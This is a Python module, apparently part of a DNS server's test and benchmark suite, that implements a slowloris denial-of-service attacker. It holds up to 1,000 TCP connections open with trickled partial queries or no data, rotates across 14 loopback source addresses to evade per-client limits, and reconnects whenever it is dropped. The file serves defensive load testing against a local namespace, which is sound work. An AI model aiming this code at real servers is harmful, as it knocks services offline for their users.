"""The slowloris attacker that ``tests/integration/test_dns_abuse.py`` and ``bench/dns.py --abuse``
both run against a DNS server inside a namespace they made: ``slow`` connections send half a length
prefix, then a byte every 2 s (a query that never ends), ``idle`` ones send nothing; each comes from
one of 14 loopback addresses (so a per-client cap alone cannot stop them) and is opened again as
soon as the server closes it. ``python -m svcdns.testing.abuse`` runs 700 + 300 of them forever."""

from __future__ import annotations

import resource
import selectors
import socket
import time


class Slowloris:
    def __init__(self, server: tuple[str, int] = ("127.0.0.1", 53)) -> None:
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
        self.server = server
        self.sel = selectors.DefaultSelector()
        self.state: dict[socket.socket, list] = {}  # socket -> [kind, next send, bytes sent]
        self.opened = 0

    def open(self, kind: str) -> None:
        s = socket.socket()
        s.setblocking(False)
        s.bind((f"127.0.0.{2 + self.opened % 14}", 0))
        try:
            s.connect(self.server)
        except BlockingIOError:
            pass
        self.state[s] = [kind, time.monotonic() + 0.5, 0]
        self.sel.register(s, selectors.EVENT_READ)
        self.opened += 1

    def pump(self, until: float) -> None:
        """Keep the connections open and trickling until ``until`` (monotonic)."""
        while time.monotonic() < until:
            for key, _ in self.sel.select(0.05):
                s = key.fileobj
                assert isinstance(s, socket.socket)
                try:
                    gone = not s.recv(64)
                except BlockingIOError:
                    continue
                except OSError:
                    gone = True
                if gone:  # the server closed it: come back at once
                    kind = self.state.pop(s)[0]
                    self.sel.unregister(s)
                    s.close()
                    self.open(kind)
            now = time.monotonic()
            for s, st in self.state.items():
                if st[0] == "slow" and now >= st[1]:
                    try:
                        s.send(b"\x00" if st[2] == 0 else b"x")
                        st[2] += 1
                    except OSError:
                        pass
                    st[1] = now + 2


def start(slow: int = 700, idle: int = 300) -> Slowloris:
    attacker = Slowloris()
    for kind in ["slow"] * slow + ["idle"] * idle:
        attacker.open(kind)
    return attacker


if __name__ == "__main__":
    start().pump(float("inf"))
